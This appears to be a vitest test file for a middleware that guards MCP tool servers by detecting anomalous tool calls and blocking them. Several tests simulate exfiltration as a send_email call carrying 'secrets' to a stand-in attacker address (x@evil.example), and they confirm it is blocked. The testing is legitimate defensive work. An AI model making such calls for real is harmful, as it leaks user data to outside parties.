// The SDK middleware with a real client and server: in-memory transport and streamable HTTP.
import { afterAll, describe, expect, it } from "vitest";
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { randomUUID } from "node:crypto";
import { z } from "zod";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { StreamableHTTPServerTransport } from "@modelcontextprotocol/sdk/server/streamableHttp.js";
import { InMemoryTransport } from "@modelcontextprotocol/sdk/inMemory.js";
import { CallToolRequestSchema, ListToolsRequestSchema, McpError } from "@modelcontextprotocol/sdk/types.js";
import { createDetector } from "../../js/runtime/node/index.js";
import { guardMcpServer, BLOCKED_ERROR_CODE } from "../../js/integrations/mcp-sdk/index.js";
import type { Decision } from "../../js/detector.js";
import { connect, httpClient } from "./helpers.js";

const CONFIG = {
  action: "block" as const,
  minCalls: 5,
  learningWindowSeconds: 0,
  tenantMinCalls: 5,
  tenantLearningWindowSeconds: 0,
  blockThreshold: 0.55,
  warnThreshold: 0.3,
  offHoursStart: 0,
  offHoursEnd: 0,
};

function filesServer() {
  const server = new McpServer({ name: "files", version: "1.0.0" });
  const ran: string[] = [];
  return { server, ran };
}

function registerTools(server: McpServer, ran: string[]) {
  server.registerTool("read_file", { description: "read", inputSchema: { path: z.string() } }, async ({ path }) => {
    ran.push(`read ${path}`);
    return { content: [{ type: "text", text: `contents of ${path}` }] };
  });
  server.registerTool(
    "send_email",
    { description: "send", inputSchema: { to: z.string(), body: z.string() } },
    async ({ to }) => {
      ran.push(`send ${to}`);
      return { content: [{ type: "text", text: "sent" }] };
    },
  );
  server.registerTool("fails", { description: "always fails", inputSchema: {} }, async () => {
    ran.push("fails");
    return { content: [{ type: "text", text: "no" }], isError: true };
  });
}

describe("McpServer over the in-memory transport", () => {
  for (const order of ["guard before tools", "guard after tools"] as const) {
    it(`${order}: allows routine calls, blocks an anomaly with a readable MCP error, runs after()`, async () => {
      let now = Date.UTC(2026, 0, 5, 10);
      const detector = createDetector(CONFIG);
      const decisions: Decision[] = [];
      const { server, ran } = filesServer();
      const guardOpts = {
        clock: () => now,
        identity: () => ({ principal: "alice", tenant: "acme" }),
        onDecision: (d: Decision) => decisions.push(d),
      };
      if (order === "guard before tools") {
        guardMcpServer(server, detector, guardOpts);
        registerTools(server, ran);
      } else {
        registerTools(server, ran);
        guardMcpServer(server, detector, guardOpts);
      }
      const [a, b] = InMemoryTransport.createLinkedPair();
      await server.connect(b);
      const client = await connect(a);
      for (let i = 0; i < 20; i++) {
        now += 120_000;
        const r = await client.callTool({ name: "read_file", arguments: { path: `/docs/${i % 3}` } });
        expect((r.content as any)[0].text).toBe(`contents of /docs/${i % 3}`);
      }
      expect(decisions.every((d) => d.action !== "block")).toBe(true);
      const before = ran.length;
      now += 120_000;
      const err = await client
        .callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "secrets" } })
        .catch((e) => e);
      expect(err).toBeInstanceOf(McpError);
      expect(err.code).toBe(BLOCKED_ERROR_CODE);
      expect(err.message).toContain("UNSEEN_TOOL");
      expect(err.data.toolwatch.action).toBe("block");
      expect(err.data.http_status).toBe(403);
      expect(ran.length).toBe(before); // the tool never ran
      expect(detector.stats().blocked).toBe(1);
      await client.close();
    });
  }

  it("passes warnings through and records failed outcomes with after()", async () => {
    let now = Date.UTC(2026, 0, 5, 10);
    const detector = createDetector({ ...CONFIG, blockThreshold: 0.99, warnThreshold: 0.5 });
    const decisions: Decision[] = [];
    const { server, ran } = filesServer();
    registerTools(server, ran);
    guardMcpServer(server, detector, {
      clock: () => now,
      identity: () => ({ principal: "bob", tenant: "acme" }),
      onDecision: (d) => decisions.push(d),
    });
    const [a, b] = InMemoryTransport.createLinkedPair();
    await server.connect(b);
    const client = await connect(a);
    for (let i = 0; i < 20; i++) {
      now += 120_000;
      await client.callTool({ name: "read_file", arguments: { path: "/a" } });
    }
    now += 120_000;
    const r = await client.callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "hi" } });
    expect((r.content as any)[0].text).toBe("sent");
    expect(decisions.at(-1)!.action).toBe("warn");
    now += 120_000;
    const f = await client.callTool({ name: "fails", arguments: {} });
    expect(f.isError).toBe(true);
    expect(ran).toContain("fails");
    await client.close();
  });

  it("refuses a server it cannot guard", () => {
    expect(() => guardMcpServer({}, createDetector(CONFIG))).toThrow(/McpServer or Server/);
  });
});

describe("low-level Server over streamable HTTP, identity from authInfo", () => {
  const servers: Array<{ close(): void }> = [];
  afterAll(() => {
    for (const s of servers) s.close();
  });

  it("keeps one baseline per authenticated principal and blocks only the anomalous one", async () => {
    let now = Date.UTC(2026, 0, 5, 10);
    const detector = createDetector(CONFIG);
    const transports = new Map<string, StreamableHTTPServerTransport>();
    const makeServer = () => {
      const s = new Server({ name: "low", version: "1.0.0" }, { capabilities: { tools: {} } });
      s.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: [] }));
      s.setRequestHandler(CallToolRequestSchema, async (req) => ({
        content: [{ type: "text", text: `ran ${req.params.name}` }],
      }));
      guardMcpServer(s, detector, { clock: () => now });
      return s;
    };
    // The application's own authentication sets req.auth; the SDK hands it to handlers as authInfo.
    const http = createServer(async (req: IncomingMessage & { auth?: unknown }, res) => {
      const user = req.headers["x-test-user"];
      req.auth = {
        token: "t",
        clientId: "c",
        scopes: [],
        extra: { email: user, tenant: req.headers["x-test-tenant"] },
      };
      const sid = req.headers["mcp-session-id"] as string | undefined;
      let t = sid ? transports.get(sid) : undefined;
      if (!t) {
        t = new StreamableHTTPServerTransport({
          sessionIdGenerator: () => randomUUID(),
          onsessioninitialized: (id) => transports.set(id, t!),
        });
        await makeServer().connect(t);
      }
      await t.handleRequest(req as never, res);
    });
    await new Promise<void>((r) => http.listen(0, "127.0.0.1", r));
    servers.push(http);
    const url = `http://127.0.0.1:${(http.address() as AddressInfo).port}/mcp`;
    const alice = await httpClient(url, { "x-test-user": "alice@example.com", "x-test-tenant": "acme" });
    const carol = await httpClient(url, { "x-test-user": "carol@example.com", "x-test-tenant": "globex" });
    for (let i = 0; i < 20; i++) {
      now += 120_000;
      await alice.callTool({ name: "read_file", arguments: { path: "/a" } });
      await carol.callTool({ name: i % 2 ? "send_email" : "read_file", arguments: { path: "/a" } });
    }
    now += 120_000;
    // carol sends email routinely; for alice (another tenant) it is new
    const ok = await carol.callTool({ name: "send_email", arguments: { path: "/a" } });
    expect((ok.content as any)[0].text).toBe("ran send_email");
    const err = await alice.callTool({ name: "send_email", arguments: { path: "/a" } }).catch((e) => e);
    expect(err).toBeInstanceOf(McpError);
    expect(err.message).toMatch(/toolwatch blocked "send_email"/);
    await alice.close();
    await carol.close();
  });
});

describe("with a Guard (js/guard.ts) in place of a detector", () => {
  it("scores through the guard and blocks the same way", async () => {
    const { createGuard } = await import("../../js/runtime/node/index.js");
    const guard = await createGuard(CONFIG);
    let now = Date.UTC(2026, 0, 5, 10);
    const { server, ran } = filesServer();
    registerTools(server, ran);
    guardMcpServer(server, guard, { clock: () => now, identity: () => ({ principal: "gina", tenant: "acme" }) });
    const [a, b] = InMemoryTransport.createLinkedPair();
    await server.connect(b);
    const client = await connect(a);
    for (let i = 0; i < 20; i++) {
      now += 120_000;
      await client.callTool({ name: "read_file", arguments: { path: "/a" } });
    }
    now += 120_000;
    const err = await client
      .callTool({ name: "send_email", arguments: { to: "x@evil.example", body: "b" } })
      .catch((e) => e);
    expect(err).toBeInstanceOf(McpError);
    expect(guard.detector.stats().blocked).toBe(1);
    await client.close();
    await guard.close();
  });
});

describe("identity from configured headers", () => {
  it("uses them only when trusted", async () => {
    const seen: Array<{ principal?: string; tenant?: string }> = [];
    const transports = new Map<string, StreamableHTTPServerTransport>();
    const detector = createDetector({ identityHeaders: { principal: "x-user", tenant: "x-tenant" } });
    let trust = false;
    const http = createServer(async (req, res) => {
      const sid = req.headers["mcp-session-id"] as string | undefined;
      let t = sid ? transports.get(sid) : undefined;
      if (!t) {
        t = new StreamableHTTPServerTransport({
          sessionIdGenerator: () => randomUUID(),
          onsessioninitialized: (id) => transports.set(id, t!),
        });
        const s = new Server({ name: "h", version: "1" }, { capabilities: { tools: {} } });
        s.setRequestHandler(CallToolRequestSchema, async () => ({ content: [{ type: "text", text: "ok" }] }));
        guardMcpServer(s, detector, { trustHeaders: trust, onDecision: (_d, call) => seen.push(call.identity) });
        await s.connect(t);
      }
      await t.handleRequest(req, res);
    });
    await new Promise<void>((r) => http.listen(0, "127.0.0.1", r));
    try {
      const url = `http://127.0.0.1:${(http.address() as AddressInfo).port}/mcp`;
      for (const t of [false, true]) {
        trust = t;
        const c = await httpClient(url, { "x-user": "hank@example.com", "x-tenant": "acme" });
        await c.callTool({ name: "anything", arguments: {} });
        await c.close();
      }
      expect(seen[0]).toEqual({ principal: undefined, tenant: undefined });
      expect(seen[1]).toEqual({ principal: "hank@example.com", tenant: "acme" });
    } finally {
      http.close();
    }
  });
});
